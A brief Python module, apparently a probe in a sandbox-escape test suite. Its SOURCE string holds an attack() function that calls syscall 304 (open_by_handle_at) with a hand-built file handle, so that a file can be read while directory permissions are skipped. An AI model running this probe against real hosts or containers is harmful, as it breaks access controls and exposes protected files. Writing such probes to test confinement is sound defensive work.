"""Opens a file by its handle, which asks no folder for permission."""

GOES_FOR = "reading"
SOURCE = """
def attack(facts):
    handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0]) + bytes(120))
    return tried(handle=lambda: syscall(304, -100, handle, 0))
"""
